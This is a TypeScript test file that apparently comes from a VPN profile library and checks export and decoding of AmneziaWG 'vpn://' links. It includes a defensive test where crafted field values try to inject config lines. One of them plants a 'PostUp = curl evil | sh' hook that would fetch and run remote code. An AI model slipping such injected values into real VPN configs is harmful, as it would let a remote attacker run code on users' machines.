import assert from "node:assert/strict";
import { x25519 } from "@noble/curves/ed25519.js";
import { fromBase64, fromBase64Url, toBase64, toBase64Url, utf8 } from "../../core/encoding.ts";
import { PharosError } from "../../core/errors.ts";
import {
  amneziaConfigText,
  type AmneziaWgProtocol,
  decodeAmneziaVpn,
  decodeProfileDocument,
  deflate,
  exportAmneziaVpn,
  knownProtocols,
  type ProfileNode,
} from "../../core/profile/mod.ts";

import { type Json, SAMPLE_PROFILE_TEXT } from "./seal_support.ts";

const sample = decodeProfileDocument(SAMPLE_PROFILE_TEXT);
const node = sample.profiles[0].nodes[0];
const awg = knownProtocols(node)[0] as AmneziaWgProtocol;

async function expectCode(fn: () => unknown, code: string): Promise<void> {
  try {
    await fn();
  } catch (e) {
    assert.ok(e instanceof PharosError, `${e}`);
    assert.equal(e.code, code, e.message);
    return;
  }
  assert.fail(`expected ${code}`);
}

function withAwg(
  params: Partial<AmneziaWgProtocol["params"]>,
  nodeOver: Partial<ProfileNode> = {},
): ProfileNode {
  return { ...node, ...nodeOver, protocols: [{ ...awg, params: { ...awg.params, ...params } }] };
}

Deno.test("vpn:// export round trip: qCompress framing, Amnezia JSON and wg-quick text", async () => {
  const link = await exportAmneziaVpn(node, { mtu: 1340 });
  assert.ok(link.startsWith("vpn://"));
  const raw = fromBase64Url(link.slice(6));
  const declared = new DataView(raw.buffer, raw.byteOffset).getUint32(0);
  assert.equal(raw[4], 0x78, "zlib stream header after the 4-byte length");
  const { config, lastConfig, configText } = await decodeAmneziaVpn(link);
  assert.equal(utf8.encode(JSON.stringify(config)).length, declared);
  assert.deepEqual(Object.keys(config), [
    "containers",
    "defaultContainer",
    "description",
    "dns1",
    "dns2",
    "hostName",
  ]);
  assert.equal(config.defaultContainer, "amnezia-awg");
  assert.equal(config.description, node.name);
  assert.equal(config.hostName, "203.0.113.7");
  const container = (config.containers as Record<string, Json>[])[0];
  assert.equal(container.container, "amnezia-awg");
  assert.equal(container.awg.port, "51820");
  assert.equal(container.awg.transport_proto, "udp");
  assert.equal(container.awg.H1, String(awg.params.obfuscation.h1));
  const p = awg.params;
  const o = p.obfuscation;
  assert.equal(lastConfig.client_priv_key, p.private_key);
  assert.equal(lastConfig.client_pub_key, toBase64(x25519.getPublicKey(fromBase64(p.private_key))));
  assert.equal(lastConfig.server_pub_key, p.public_key);
  assert.equal(lastConfig.psk_key, p.preshared_key);
  assert.equal(lastConfig.client_ip, p.address.split("/")[0]);
  assert.equal(lastConfig.port, 51820);
  assert.equal(lastConfig.mtu, "1340");
  const expected = [
    "[Interface]",
    `Address = ${p.address}`,
    "DNS = 1.1.1.1, 1.0.0.1",
    `PrivateKey = ${p.private_key}`,
    "MTU = 1340",
    `Jc = ${o.jc}`,
    `Jmin = ${o.jmin}`,
    `Jmax = ${o.jmax}`,
    `S1 = ${o.s1}`,
    `S2 = ${o.s2}`,
    `S3 = ${o.s3}`,
    `S4 = ${o.s4}`,
    `H1 = ${o.h1}`,
    `H2 = ${o.h2}`,
    `H3 = ${o.h3}`,
    `H4 = ${o.h4}`,
    "",
    "[Peer]",
    `PublicKey = ${p.public_key}`,
    `PresharedKey = ${p.preshared_key}`,
    `AllowedIPs = ${p.allowed_ips!.join(", ")}`,
    "Endpoint = 203.0.113.7:51820",
    "PersistentKeepalive = 25",
    "",
  ].join("\n");
  assert.equal(configText, expected);
  assert.equal(amneziaConfigText(node, { mtu: 1340 }), expected);
});

Deno.test("vpn:// export: endpoint fallback, options, I-templates and IPv6 endpoints", async () => {
  const noPool = withAwg({ endpoints: undefined, preshared_key: undefined });
  const text = amneziaConfigText(noPool, { dns: ["9.9.9.9", "149.112.112.112"] });
  assert.ok(text.includes(`Endpoint = ${node.endpoints[0]}:443\n`));
  assert.ok(text.includes("DNS = 9.9.9.9, 149.112.112.112\n"));
  assert.ok(text.includes("MTU = 1420\n"));
  assert.ok(!text.includes("PresharedKey"));
  const zeroPort = withAwg({
    endpoints: [{ ip: "203.0.113.9", port_min: 0, port_max: 0, extra: {} }],
  });
  assert.ok(amneziaConfigText(zeroPort).includes("Endpoint = 203.0.113.9:443\n"));
  const v6 = amneziaConfigText(node, { endpoint: { host: "2001:db8::7", port: 443 } });
  assert.ok(v6.includes("Endpoint = [2001:db8::7]:443\n"));
  const tmpl = withAwg({
    obfuscation: { ...awg.params.obfuscation, i1: "<b 0xf6ab3267fa><r 10>" },
  });
  const { lastConfig, configText } = await decodeAmneziaVpn(
    await exportAmneziaVpn(tmpl, { description: "Mine" }),
  );
  assert.ok(configText.includes("H4 = ") && configText.includes("\nI1 = <b 0xf6ab3267fa><r 10>\n"));
  assert.equal(lastConfig.I1, "<b 0xf6ab3267fa><r 10>");
});

Deno.test("vpn:// export takes the profile MTU the reader admits, cascades below 1280 included", async () => {
  for (const mtu of [576, 1180, 1260, 65535]) {
    const { lastConfig, configText } = await decodeAmneziaVpn(
      await exportAmneziaVpn(node, { mtu }),
    );
    assert.equal(lastConfig.mtu, `${mtu}`);
    assert.ok(configText.includes(`\nMTU = ${mtu}\n`));
  }
  assert.ok(amneziaConfigText(node, { mtu: 0 }).includes("\nMTU = 1420\n"));
});

Deno.test("vpn:// export refuses values that would inject config lines", async () => {
  const injected = [
    withAwg({ obfuscation: { ...awg.params.obfuscation, i1: "x\nPostUp = curl evil | sh" } }),
    withAwg({ address: "10.0.0.2/32\nDNS = 6.6.6.6" }),
    withAwg({ public_key: "AAAA\n[Peer]" }),
    withAwg({ allowed_ips: ["0.0.0.0/0\nEndpoint = evil:1"] }),
    withAwg({ obfuscation: { ...awg.params.obfuscation, jc: 1.5 } }),
  ];
  for (const n of injected) await expectCode(() => exportAmneziaVpn(n), "unsafe-value");
  await expectCode(
    () => exportAmneziaVpn(node, { endpoint: { host: "evil\nhost", port: 1 } }),
    "unsafe-value",
  );
  await expectCode(() => exportAmneziaVpn(node, { dns: ["1.1.1.1\n", "1.0.0.1"] }), "unsafe-value");
  await expectCode(() => exportAmneziaVpn(node, { mtu: 500 }), "unsafe-value");
  await expectCode(() => exportAmneziaVpn(node, { mtu: 575 }), "unsafe-value");
  await expectCode(() => exportAmneziaVpn(node, { mtu: 65536 }), "unsafe-value");
  await expectCode(() => exportAmneziaVpn({ ...node, protocols: [] }), "no-amneziawg");
  await expectCode(
    () => exportAmneziaVpn(withAwg({ endpoints: [] }, { endpoints: [] })),
    "no-endpoint",
  );
});

Deno.test("vpn:// decoder rejects malformed and oversized links", async () => {
  const frame = async (declared: number, json: string) => {
    const z = await deflate(utf8.encode(json), "deflate");
    const out = new Uint8Array(4 + z.length);
    new DataView(out.buffer).setUint32(0, declared);
    out.set(z, 4);
    return "vpn://" + toBase64Url(out);
  };
  await expectCode(() => decodeAmneziaVpn("https://x"), "not-vpn-link");
  await expectCode(() => decodeAmneziaVpn("vpn://" + "A".repeat(70 * 1024)), "too-large");
  await expectCode(() => decodeAmneziaVpn("vpn://***"), "corrupt");
  await expectCode(() => decodeAmneziaVpn("vpn://AAA"), "corrupt");
  await expectCode(async () => decodeAmneziaVpn(await frame(1 << 30, "{}")), "too-large");
  await expectCode(async () => decodeAmneziaVpn(await frame(3, "{}")), "corrupt");
  await expectCode(async () => decodeAmneziaVpn(await frame(2, "{}")), "no-amneziawg");
  await expectCode(async () => decodeAmneziaVpn(await frame(1, "[")), "corrupt");
  const noText = JSON.stringify({
    containers: [{ container: "amnezia-awg", awg: { last_config: "{}" } }],
  });
  await expectCode(async () => decodeAmneziaVpn(await frame(noText.length, noText)), "corrupt");
  const headerOnly = new Uint8Array(4);
  await expectCode(() => decodeAmneziaVpn("vpn://" + toBase64Url(headerOnly)), "corrupt");
});
